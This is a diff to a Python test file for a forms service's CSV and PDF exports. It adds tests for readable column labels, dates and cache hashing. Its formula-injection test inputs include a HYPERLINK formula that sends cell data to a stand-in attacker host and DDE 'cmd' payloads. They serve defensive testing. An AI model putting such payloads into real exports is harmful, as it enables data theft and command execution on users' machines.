@@ -14,6 +14,8 @@ from forms_service.definitions.loader import load_definitions, load_form_text
 from forms_service.exports import (
     BOM,
     FIXED_COLUMNS,
+    READABLE_COLUMNS,
+    CsvWording,
     pdf_content_hash,
     safe_cell,
     submission_json,
@@ -288,9 +290,10 @@ def test_columns_for_several_forms_and_for_questions_only_an_old_version_had():
     "answer",
     [
         '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
-        "+1",
-        "-2",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
         "@SUM(A1:A2)",
+        "+44 7700 900982",  # a spreadsheet would read this as a formula too
         "\tcmd",
         "\r=1+1",
     ],
@@ -313,15 +316,24 @@ def test_safe_cell_leaves_ordinary_text_alone_and_headers_are_checked_too():
     assert safe_cell("Jo") == "Jo" and safe_cell("") == ""
     assert safe_cell("1-2") == "1-2" and safe_cell("a=b") == "a=b"
     assert safe_cell("-") == "'-"
+    # Numbers are read as numbers, never as formulas: no stray apostrophe.
+    assert [safe_cell(n) for n in ("-5", "+5", "-2.50", "-.5", "2024-05-01")] == [
+        "-5",
+        "+5",
+        "-2.50",
+        "-.5",
+        "2024-05-01",
+    ]
+    assert safe_cell("-5-5") == "'-5-5" and safe_cell("-1e3") == "'-1e3"
     answers = {"=cmd": "x"}  # an unknown key from a tampered snapshot still cannot run
     text, _ = read_csv(submissions_csv([make_submission(answers)], {FORM.id: FORM}))
     header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
     assert "'=cmd" in header
 
 
-def test_negative_money_is_quoted_too():
+def test_negative_money_stays_a_number():
     _, (row,) = read_csv(submissions_csv([make_submission({"savings": -250})], {FORM.id: FORM}))
-    assert row["savings"] == "'-2.50"
+    assert row["savings"] == "-2.50"
 
 
 def test_cells_with_commas_quotes_and_newlines_round_trip():
@@ -339,6 +351,110 @@ def test_csv_is_streamed_line_by_line():
 
 def test_no_submissions_gives_just_the_header():
     assert list(submissions_csv([], {FORM.id: FORM})) == [BOM + ",".join(FIXED_COLUMNS) + "\r\n"]
+
+
+# -- CSV for people ----------------------------------------------------------------------------
+
+PEOPLE = CsvWording(staff_names={3: "Priya Shah"})
+
+
+def people_csv(submissions, forms=None):
+    return read_csv(submissions_csv(submissions, forms or {FORM.id: FORM}, PEOPLE))
+
+
+def test_csv_for_people_has_the_forms_own_labels_as_headings_in_form_order():
+    text, _ = people_csv([make_submission(ANSWERS)])
+    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
+    assert header == [
+        *READABLE_COLUMNS,
+        "Your name (title)",
+        "Your name (first name)",
+        "Your name (last name)",
+        "Your address (address line 1)",
+        "Your address (address line 2)",
+        "Your address (town or city)",
+        "Your address (county)",
+        "Your address (postcode)",
+        "Savings",
+        "About you: date of birth",
+        "Children",
+        "Likes",
+        "Agree?",
+        "Notes",
+        "Attorney 1: name (first name)",
+        "Attorney 1: name (last name)",
+        "Attorney 1: date of birth",
+        "Attorney 2: name (first name)",
+        "Attorney 2: name (last name)",
+        "Attorney 2: date of birth",
+    ]
+
+
+def test_csv_for_people_gives_labels_names_and_iso_dates():
+    submission = make_submission(ANSWERS, assigned_to=3, status="in_progress", channel="paper")
+    _, (row,) = people_csv([submission])
+    assert row["Reference"] == "LT-AAAA-0001" and row["Form"] == "Test form"
+    assert (row["Status"], row["Assigned to"]) == ("In progress", "Priya Shah")
+    assert (row["Channel"], row["Language"]) == ("Paper", "English")
+    # UK time with its offset (British Summer Time in May), dates as YYYY-MM-DD.
+    assert row["Submitted"] == "2024-05-01T10:30:15+01:00"
+    assert (row["Due"], row["About you: date of birth"]) == ("2024-05-07", "1980-02-29")
+    assert (row["Likes"], row["Agree?"]) == ("Tea; Cake", "Yes")
+    assert row["Savings"] == "1250.50"  # a plain number a spreadsheet can add up
+    assert row["Attorney 2: date of birth"] == "1971-02-03"
+    assert not any(cell.startswith("'") for cell in row.values())
+
+
+def test_csv_for_people_winter_times_unassigned_and_gone_assignees():
+    winter = SUBMITTED.replace(month=12)
+    _, rows = people_csv(
+        [
+            make_submission({}, 1, submitted_at=winter),
+            make_submission({}, 2, assigned_to=99, status=None),
+        ]
+    )
+    assert rows[0]["Submitted"] == "2024-12-01T09:30:15+00:00"
+    assert rows[0]["Assigned to"] == ""
+    assert (rows[1]["Assigned to"], rows[1]["Status"]) == ("Unknown user", "Received")
+
+
+def test_csv_for_people_tells_shared_labels_apart_by_page_and_item():
+    form = LIVE_FORMS["prison-visit-booking"]
+    answers = {
+        "lead_visitor_first_name": "Ann",
+        "prison": "cardiff",
+        "visitors": [
+            {"visitor_first_name": "Kim", "visitor_last_name": "Lee", "visitor_dob": "2015-06-01"},
+        ],
+    }
+    submission = make_submission(
+        answers, form_id=form.id, form_version=form.version, definition=dict(form.snapshot)
+    )
+    text, (row,) = people_csv([submission], LIVE_FORMS)
+    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
+    assert len(header) == len(set(header))
+    assert row["Visitor details: first name"] == "Ann"
+    assert row["Visitor 1: first name"] == "Kim"
+    assert row["Visitor 1: date of birth"] == "2015-06-01"
+    assert row["Prison name"] == "HMP Cardiff"  # the option's label, not "cardiff"
+    assert header.index("Visitor details: first name") < header.index("Visitor 1: first name")
+
+
+def test_csv_for_people_heads_a_question_only_an_old_version_had_with_its_label():
+    old_definition = DEFINITION.replace("version: 2", "version: 1").replace(
+        "{id: agree, type: yes_no, label: Agree?}",
+        "{id: agree, type: yes_no, label: Agree?}\n      - {id: pets, type: text, label: Pets}",
+    )
+    old_form = load_form_text(old_definition, "lasting-test.yaml")
+    old = make_submission({"pets": "=cat"}, 1, form_version=1, definition=dict(old_form.snapshot))
+    _, (row,) = people_csv([old])
+    assert row["Pets"] == "'=cat"
+
+
+def test_codes_csv_keeps_stored_values_and_gives_the_assignee_id():
+    submission = make_submission(ANSWERS, assigned_to=3)
+    _, (row,) = read_csv(submissions_csv([submission], {FORM.id: FORM}))
+    assert (row["likes"], row["agree"], row["assigned_to"]) == ("tea; cake", "yes", "3")
 
 
 # -- PDF cache ---------------------------------------------------------------------------------
@@ -373,3 +489,9 @@ def test_the_pdf_is_made_once_and_again_when_code_answers_or_definition_change()
     first = pdf_content_hash(submission)
     submission.definition = {**submission.definition, "title": "Renamed"}
     assert pdf_content_hash(submission) != first
+    # The cover line: the status and the assignee's name.
+    renamed = pdf_content_hash(submission)
+    submission.status = "accepted"
+    accepted = pdf_content_hash(submission)
+    assert accepted != renamed
+    assert pdf_content_hash(submission, assignee="Priya Shah") != accepted
